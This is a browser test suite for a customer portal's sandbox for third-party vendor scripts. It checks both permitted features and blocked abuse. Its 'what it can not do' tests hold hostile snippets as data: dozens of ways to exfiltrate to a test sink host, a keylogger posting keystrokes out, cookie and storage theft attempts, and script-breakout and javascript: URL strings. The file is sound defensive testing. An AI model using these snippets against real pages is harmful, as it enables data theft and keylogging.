import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openWholeBrowser, panelReady, patienceMs, portalIn, textOf } from './browser.ts';
import { type Demo, startDemo } from './demo.ts';
import {
  type AllowedHost,
  framesOf,
  openHost,
  openSink,
  type Sink,
  setScript,
  visit,
  visitSite,
} from './vendor-script.ts';

let browser: Browser;
let demo: Demo;
let sink: Sink;
let host: AllowedHost;
const file = `alert('Hello from a file'); portico.on('page', ({ page }) => portico.track('seen', { page }));`;
beforeAll(async () => {
  [browser, demo] = [await openWholeBrowser(), await startDemo('sqlite')];
  [sink, host] = [await openSink(), await openHost(file)];
});
afterAll(async () => {
  await browser?.close();
  await demo?.stop();
  sink?.stop();
  host?.stop();
});

const slug = 'stromwerk';
const use = (script: Parameters<typeof setScript>[2]) => setScript(demo, slug, script);
const notice = (page: Page) => page.getByRole('status').filter({ hasText: 'From Stromwerk' });

describe('what it does', () => {
  test('CON-18 DAY-11 raw statements run once on load: alert is a notice under the vendor’s name', async () => {
    await use({ source: "alert('Hello World'); globalThis.runs = (globalThis.runs ?? 0) + 1" });
    const { page, frame } = await visit(browser, demo, slug);
    await notice(page).waitFor();
    expect(await textOf(notice(page))).toMatch(/From Stromwerk.* Hello World Close/);
    expect(await (await frame()).evaluate('runs')).toBe(1);
    await notice(page).getByRole('button', { name: 'Close' }).click();
    await notice(page).waitFor({ state: 'hidden' });
    await page.context().close();
    const other = await visit(browser, demo, 'koelwacht');
    await other.page
      .locator(panelReady('contracts'))
      .or(other.page.locator(panelReady('sites')))
      .first()
      .waitFor();
    expect(framesOf(other.page)).toEqual([]);
    await other.page.context().close();
  });

  test('CON-19 a script tag, or a file’s address alone, loads the file; page changes are told, and go to the page around', async () => {
    for (const source of [`<script async src="${host.origin}/chat.js"></script>`, `${host.origin}/chat.js`]) {
      await use({ source, hosts: [host.origin] });
      const { page } = await visitSite(browser, demo, slug);
      const portal = portalIn(page);
      await portal.getByText('Hello from a file').waitFor();
      await page.evaluate(() =>
        document.addEventListener('portico:track', (event) =>
          Object.assign(globalThis, { tracked: (event as CustomEvent).detail }),
        ),
      );
      await portal.getByRole('link', { name: 'Dokumente' }).click();
      await expect
        .poll(() => page.evaluate('globalThis.tracked'), { timeout: 10_000 })
        .toMatchObject({ name: 'seen', page: 'documents' });
      await page.context().close();
    }
  });

  test('DAY-11 analytics reach the host that is allowed, knowing who comes back and nothing about them', async () => {
    // Another try hears itself alone.
    host.heard.length = 0;
    const send = (how: string) =>
      `portico.getContext().then((context) => { globalThis.context = context; ${how} })`;
    await use({
      source: send(`fetch('${host.origin}/seen', { method: 'POST', body: JSON.stringify(context) });
        navigator.sendBeacon('${host.origin}/beacon', context.customer); new Image().src = '${host.origin}/pixel'`),
      hosts: [host.origin],
    });
    const first = await visit(browser, demo, slug);
    const context = await (async () => {
      await expect
        .poll(() => host.heard.filter((line) => / \/(seen|beacon|pixel)/.test(line)).length)
        .toBe(3);
      return (await first.frame()).evaluate('context') as Promise<Record<string, unknown>>;
    })();
    expect(Object.keys(context).sort()).toEqual(['customer', 'locale', 'page', 'plan', 'theme']);
    expect(context).toMatchObject({
      ...{ locale: 'en', page: 'contracts', theme: { name: expect.any(String), scheme: 'light' } },
      customer: expect.stringMatching(/^[\w-]{22}$/),
    });
    expect(context['plan']).toEqual(expect.any(String));
    expect(JSON.stringify(context)).not.toMatch(/cus_|ven_|por_|@|Petersen/);
    await first.page.context().close();
    const again = await visit(browser, demo, slug);
    // Asked again and again from outside: waiting inside is refused by the frame's own policy.
    const known = await again.frame();
    await expect.poll(() => known.evaluate('globalThis.context?.customer')).toBe(context['customer']);
    await again.page.context().close();
    host.heard.length = 0;
  });

  test('DAY-11 a chat stands in its place, opened by the customer, and talks with its host alone', async () => {
    const source = `
      document.body.innerHTML = '<form style="padding:1rem"><label>Your question <input></label> <button type=button>Send</button></form><p id=reply></p>';
      document.querySelector('button').onclick = async () => {
        const answer = await fetch('${host.origin}/ask', { method: 'POST', body: document.querySelector('input').value });
        document.querySelector('#reply').textContent = (await answer.json()).reply;
      };
      portico.resize(200);`;
    await use({ source, hosts: [host.origin], slot: 'help' });
    const { page, frame } = await visit(browser, demo, slug);
    const launch = page.getByRole('button', { name: 'Help from Stromwerk' });
    await launch.click();
    const chat = await frame();
    await chat.getByLabel('Your question').fill('When?');
    await chat.getByRole('button', { name: 'Send' }).click();
    await chat.getByText('Good day').waitFor();
    expect(host.heard).toContain('POST /ask When?');
    expect(await page.locator('[data-portico-script] iframe').boundingBox()).toMatchObject({ height: 200 });
    await page.getByRole('button', { name: 'Hide' }).click();
    await expect
      .poll(() =>
        page
          .locator('[data-portico-script] iframe')
          .boundingBox()
          .then((box) => box?.width),
      )
      .toBeLessThan(2);
    await page.context().close();
  });

  test.each([
    { amounts: false, told: ['number', 'orderId'] },
    { amounts: true, told: ['gross', 'net', 'number', 'orderId', 'tax'] },
  ])(
    'DAY-11 an order is told when the customer comes back from it, with what it costs: $amounts',
    async ({ amounts, told }) => {
      const shop = 'koelwacht';
      const source = `globalThis.orders = [];
      portico.on('orderCreated', (order) => { orders.push(order); portico.track('sold', { number: order.number }) })`;
      await setScript(demo, shop, { source, amounts });
      const { page, frame } = await visit(browser, demo, shop);
      await expect.poll(async () => (await frame()).evaluate('globalThis.orders')).toEqual([]);
      await page.getByRole('link', { name: 'Order', exact: true }).click();
      const go = page.locator('.order-go button');
      await go.waitFor();
      // Where a price is agreed to, nothing of the vendor's runs.
      await expect.poll(() => framesOf(page).length).toBe(0);
      for (const box of await page.locator('[data-portico-part="summary"] [type="checkbox"]').all())
        await box.check();
      await go.click();
      await page.getByRole('heading', { name: 'Thank you for your order' }).waitFor();
      await page.getByRole('link', { name: 'Contracts' }).first().click();
      const heard = () =>
        framesOf(page)[0]
          ?.evaluate('globalThis.orders ?? []')
          .catch(() => []);
      await expect.poll(heard, { timeout: patienceMs }).toHaveLength(1);
      const [order] = (await heard()) as [Record<string, unknown>];
      expect(Object.keys(order).sort()).toEqual(told);
      const placed = await demo.opened.database.db
        .selectFrom('sales_order')
        .select(['id', 'number'])
        .orderBy('id', 'desc')
        .executeTakeFirstOrThrow();
      expect(order).toMatchObject({ orderId: placed.id, number: placed.number });
      await page.context().close();
      await setScript(demo, shop, { enabled: false });
    },
  );

  test('it costs the first screen nothing: its files are asked for when everything else is there', async () => {
    await use({ source: 'void 0' });
    const { page, asked, frame } = await visit(browser, demo, slug);
    await frame();
    const at = (part: string) => asked.findIndex((url) => url.includes(part));
    expect(at('/content/')).toBeGreaterThan(at('/portal/v1/sessions'));
    expect(at('/assets/app-')).toBeLessThan(at('/assets/vendor-script-'));
    await page.context().close();
    await use({ enabled: false, source: 'void 0' });
    const none = await visit(browser, demo, slug);
    await none.page.locator(panelReady('contracts')).waitFor();
    await none.page.waitForTimeout(4_000);
    expect(none.asked.filter((url) => /content|vendor-script|\/script/.test(url))).toEqual([]);
    await none.page.context().close();
  });
});

describe('what it can not do', () => {
  /** Each statement is tried by itself; what it threw, or what it came to, is left in `tried`. */
  const tried = (statements: Readonly<Record<string, string>>): string =>
    `globalThis.tried = {};\n${Object.entries(statements)
      .map(
        ([name, code]) =>
          `try { Promise.resolve((() => ${code})()).then((v) => { tried['${name}'] = 'did: ' + v }, (e) => { tried['${name}'] = e.name }) } catch (e) { tried['${name}'] = e.name }`,
      )
      .join('\n')}`;

  test('J01 no way out leads to a host that is not allowed', async () => {
    const to = `https://${sink.https}`;
    const plain = `http://${sink.http}`;
    const ways = [
      ...[to, plain].flatMap((base) => [
        `fetch('${base}/fetch')`,
        `fetch('${base}/nocors', { mode: 'no-cors' })`,
        `navigator.sendBeacon('${base}/beacon', 'x')`,
        `Object.assign(new Image(), { src: '${base}/image' })`,
        `new EventSource('${base}/events')`,
        `new Audio('${base}/audio').load()`,
        `new FontFace('f', 'url(${base}/font)').load()`,
        `new Worker('${base}/worker.js')`,
        `new XMLHttpRequest().open('GET', '${base}/xhr', false)`,
        `import('${base}/module.js')`,
        `document.body.append(Object.assign(document.createElement('script'), { src: '${base}/script.js' }))`,
        `document.body.append(Object.assign(document.createElement('script'), { src: '${base}/nonce.js', nonce: document.currentScript?.nonce ?? '' }))`,
        `document.body.append(Object.assign(document.createElement('iframe'), { src: '${base}/frame' }))`,
        `document.body.append(Object.assign(document.createElement('object'), { data: '${base}/object' }))`,
        `document.body.append(Object.assign(document.createElement('embed'), { src: '${base}/embed' }))`,
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${base}/style' }))`,
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${base}/prefetch' }))`,
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: '${base}/preload' }))`,
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: '${base}/icon' }))`,
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: '${base}/manifest' }))`,
        `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body{background:url(${base}/css)} @import "${base}/import";' }))`,
        `document.body.insertAdjacentHTML('beforeend', '<video poster="${base}/poster"></video><form action="${base}/form" method="post"><input name="a"></form>')`,
        `[...document.forms].at(-1).requestSubmit()`,
        `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src="${base}/srcdoc">' }))`,
        `document.head.insertAdjacentHTML('beforeend', '<base href="${base}/base/">')`,
        `window.open('${base}/open')`,
        `Object.assign(document.createElement('a'), { href: '${base}/ping', ping: '${base}/ping', target: '_top' }).click()`,
        `Object.assign(document.createElement('a'), { href: '${base}/download', download: 'x' }).click()`,
        `{ top.location = '${base}/top' }`,
        `{ parent.location = '${base}/parent' }`,
        `{ location = '${base}/self' }`,
        `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${base}/refresh">')`,
      ]),
      `new WebSocket('wss://${sink.https}/socket')`,
      `new WebSocket('ws://${sink.http}/socket')`,
      `new WebTransport('${to}/transport')`,
      `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${sink.https.replace('localhost', '127.0.0.1')}' }] }).createDataChannel('x')`,
    ];
    const source = tried(Object.fromEntries(ways.map((way, at) => [String(at), way])));
    await use({ source, hosts: [host.origin] });
    const { page } = await visit(browser, demo, slug);
    await page.locator('[data-portico-script] iframe').waitFor({ state: 'attached' });
    await page.waitForTimeout(3_000);
    expect(sink.hits).toEqual([]);
    // The portal is where it was, and nothing else is open.
    expect(page.url()).toContain(`/p/${slug}`);
    expect(page.context().pages()).toHaveLength(1);
    await page.locator(panelReady('contracts')).waitFor();
    await page.context().close();
  });

  test('J01 the script can not read a nonce, nor run a stranger’s file by a hash that is known', async () => {
    await use({
      source: `const one = document.createElement('script'); one.integrity = 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='; one.src = 'https://${sink.https}/hash.js'; document.body.append(one)`,
    });
    const { page, frame } = await visit(browser, demo, slug);
    const policy = await page.evaluate(
      async (url) => (await fetch(url)).headers.get('content-security-policy'),
      (await frame()).url(),
    );
    expect(policy).not.toMatch(/nonce|sha256|unsafe-eval|strict-dynamic/);
    await page.waitForTimeout(500);
    expect(sink.hits).toEqual([]);
    await page.context().close();
  });

  test('J02 J03 it reads neither the page around it, nor cookies, storage, other frames, or the session', async () => {
    await use({
      source: tried({
        ...{ parent: 'parent.document.body', top: 'top.document', frames: 'parent.frames[1].document' },
        ...{ cookie: 'document.cookie', local: 'localStorage.a', session: 'sessionStorage.a' },
        ...{
          database: 'indexedDB.open("a")',
          caches: 'caches.open("a")',
          worker: 'navigator.serviceWorker.register("/x.js")',
        },
        ...{ start: 'parent.porticoStart', token: 'parent.sessionStorage', history: 'top.history.length' },
        ...{ frameElement: 'String(frameElement)', origin: 'self.origin', referrer: 'document.referrer' },
        ...{
          cookieStore: 'cookieStore.getAll()',
          files: 'navigator.storage.getDirectory()',
          name: 'window.name',
        },
        ...{
          opened: 'String(open("about:blank"))',
          confirmed: 'String(confirm("Pay?"))',
          prompted: 'String(prompt("Code?"))',
        },
        ...{ evaluated: 'eval("1")', made: 'new Function("return 1")()' },
        ...{
          camera: 'navigator.mediaDevices.getUserMedia({ video: true })',
          clipboard: 'navigator.clipboard.readText()',
        },
      }),
    });
    const { page, frame } = await visit(browser, demo, slug);
    const inside = await frame();
    await expect
      .poll(() => inside.evaluate('Object.keys(globalThis.tried ?? {}).length'))
      .toBeGreaterThan(18);
    const all = (await inside.evaluate('tried')) as Record<string, string>;
    for (const name of [
      'parent',
      'top',
      'frames',
      'cookie',
      'local',
      'session',
      'database',
      'caches',
      'start',
      'token',
      'history',
      'cookieStore',
      'files',
    ])
      expect(all[name], name).toMatch(/^(SecurityError|TypeError)$/);
    expect(all).toMatchObject({ origin: 'did: null', referrer: 'did: ', name: 'did: ', opened: 'did: null' });
    expect(all).toMatchObject({ frameElement: 'did: null', confirmed: 'did: false', prompted: 'did: null' });
    for (const name of ['evaluated', 'made']) expect(all[name], name).toBe('EvalError');
    for (const name of ['worker', 'camera', 'clipboard'])
      expect(all[name] ?? 'nothing', name).not.toMatch(/^did/);
    await page.context().close();
  });

  test('J02 a script that asks for the keyboard while somebody types in the portal is ended, and gets no word of it', async () => {
    await use({
      source: `document.body.innerHTML = '<input autofocus>'; portico.resize(100);
        addEventListener('keydown', ({ key }) => fetch('${host.origin}/key', { method: 'POST', body: key }), true);
        setInterval(() => { window.focus(); document.querySelector('input').focus() }, 10)`,
      hosts: [host.origin],
      slot: 'notice',
    });
    const { page } = await visit(browser, demo, slug);
    await page.locator('[data-portico-script]:not([data-empty])').waitFor();
    await page.getByRole('link', { name: 'My details' }).click();
    const phone = page.getByLabel('Phone');
    await phone.click();
    await expect.poll(() => framesOf(page).length).toBe(0);
    await phone.fill('');
    await page.keyboard.type('+49 431 5550199', { delay: 20 });
    expect(await phone.inputValue()).toBe('+49 431 5550199');
    expect(host.heard.filter((line) => line.startsWith('POST /key'))).toEqual([]);
    await page.context().close();
  });

  test('J06 ten thousand messages end it, and the portal stays as quick as it was', async () => {
    await use({
      source:
        "for (let i = 0; i < 10000; i++) { portico.track('flood', { i }); parent.postMessage({ portico: 'script', i }, '*') } portico.resize(200)",
      slot: 'notice',
    });
    const { page } = await visit(browser, demo, slug);
    await page.waitForEvent('console', (message) => /stopped .*too many messages/.test(message.text()));
    await expect.poll(() => framesOf(page)).toEqual([]);
    await page.getByRole('link', { name: 'Documents' }).click();
    await page.locator(panelReady('documents')).waitFor();
    await page.context().close();
  });

  test('J05 a loop without end is its own: the portal goes on, and the frame is taken away', async () => {
    await use({ source: 'portico.resize(150); setTimeout(() => { for (;;); }, 500)', slot: 'notice' });
    const { page } = await visit(browser, demo, slug);
    await page.locator('[data-portico-script]:not([data-empty])').waitFor();
    await page.waitForTimeout(700);
    const started = Date.now();
    await page.getByRole('link', { name: 'Documents' }).click();
    await page.locator(panelReady('documents')).waitFor();
    expect(Date.now() - started).toBeLessThan(5_000);
    await page.getByText('What Stromwerk shows here was stopped.').waitFor();
    expect(framesOf(page)).toEqual([]);
    await page.context().close();
  });

  test('PM09 CON-18 a script that throws, hides everything or asks for a giant place leaves the portal as it was', async () => {
    await use({
      source: `setTimeout(() => { throw new Error('mine') }); portico.resize(1e9); portico.resize(NaN); portico.resize('100px;position:fixed');
        for (const one of [document.body, document.documentElement]) one.style.display = 'none';
        const said = "</script><script>alert('out')</script>";`,
      slot: 'notice',
    });
    const { page } = await visit(browser, demo, slug);
    const frame = page.locator('[data-portico-script] iframe');
    await expect.poll(async () => (await frame.boundingBox())?.height).toBe(240);
    expect(await notice(page).count()).toBe(0);
    await page.getByRole('link', { name: 'Documents' }).click();
    await page.locator(panelReady('documents')).waitFor();
    await page.context().close();
  });

  test('a notice is plain words, few of them, each once; it takes no focus and hides nothing', async () => {
    await use({
      source: `alert('<b>Pay now</b>\\u202e ' + 'x'.repeat(5000)); alert('two'); alert('two'); alert('three'); alert('four'); alert('five')`,
    });
    const { page } = await visit(browser, demo, slug);
    await notice(page).getByText('three').waitFor();
    expect(await page.getByText('four').count()).toBe(0);
    expect(await page.evaluate('document.activeElement?.tagName')).toBe('BODY');
    await use({ source: `alert('<b>Pay now</b>\\u202e ' + 'x'.repeat(5000))` });
    const long = await visit(browser, demo, slug);
    await notice(long.page).waitFor();
    const text = await textOf(notice(long.page));
    expect(text).toContain('<b>Pay now</b> x');
    expect(text.length).toBeLessThan(340);
    for (const one of [page, long.page]) await one.context().close();
  });

  test('PM10 a link opens after a press and a question, and by https alone', async () => {
    await use({
      source: `const button = document.createElement('button'); button.textContent = 'Go'; document.body.append(button); portico.resize(60);
        portico.openLink('https://chat.acme.example/early'); console.log('asked');
        button.onclick = () => { for (const one of ['javascript:alert(1)', 'data:text/html,x', 'http://acme.example/', 'https://a:b@acme.example/', '//acme.example']) portico.openLink(one); portico.openLink('https://chat.acme.example/help') }`,
      slot: 'notice',
    });
    const { page, frame } = await visit(browser, demo, slug);
    // Whatever the driver looks at counts as a press; so it looks when it was asked.
    await page.waitForEvent('console', (message) => message.text() === 'asked');
    expect(await page.getByRole('link', { name: /Open chat/ }).count()).toBe(0);
    await page
      .locator('[data-portico-script]')
      .first()
      .hover({ position: { x: 5, y: 5 } });
    await (await frame()).getByRole('button', { name: 'Go' }).click();
    const open = page.getByRole('link', { name: 'Open chat.acme.example' });
    await open.waitFor();
    expect(await open.getAttribute('href')).toBe('https://chat.acme.example/help');
    expect(await open.getAttribute('rel')).toBe('noopener noreferrer');
    expect(page.context().pages()).toHaveLength(1);
    await page.getByRole('button', { name: 'Not now' }).click();
    expect(await open.count()).toBe(0);
    await page.context().close();
  });
});

describe('where it is not', () => {
  test('J09 rank 29 neither at sign-in, payment, orders, codes and consent, nor with ?safe=1, nor when it is off', async () => {
    await use({ source: "alert('here'); portico.resize(50)", slot: 'notice' });
    const { page, frame } = await visit(browser, demo, slug);
    await frame();
    const gone = async () => expect.poll(() => framesOf(page).length).toBe(0);
    // The same document goes on to the order page, and back.
    await page
      .getByRole('link', { name: 'Order', exact: true })
      .or(page.locator('.nav a[href*="/order"]'))
      .first()
      .click();
    await page.locator('[data-portico-panel="order"]').waitFor();
    await gone();
    await page.locator('.nav a').first().click();
    await frame();
    await page.locator('[data-portico-panel="contracts"] a[href*="ctr_"]').first().click();
    await page
      .getByRole('button', { name: /^Cancel/ })
      .first()
      .click();
    await page.locator('[data-portico-ending]').waitFor();
    await gone();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await gone();
    await page.context().close();

    await setScript(demo, 'keysmith', { source: 'void 0' });
    const doors = [`/p/keysmith?language=en`, `/order/${slug}`, `/signup/${slug}`, `/cancel/${slug}`];
    await Promise.all(
      doors.map(async (path) => {
        const context = await browser.newContext();
        const door = await context.newPage();
        const answer = await door.goto(`${demo.portico}${path}`);
        expect(answer?.headers()['content-security-policy'] ?? '', path).not.toContain(`/content/${slug}`);
        await door.waitForTimeout(2_500);
        expect(await door.locator('iframe').count(), path).toBe(0);
        await context.close();
      }),
    );
    const safe = await visit(browser, demo, slug, '?safe=1');
    await safe.page.locator(panelReady('contracts')).waitFor();
    await safe.page.waitForTimeout(2_500);
    expect(framesOf(safe.page)).toEqual([]);
    await safe.page.context().close();
  }, 90_000);
});
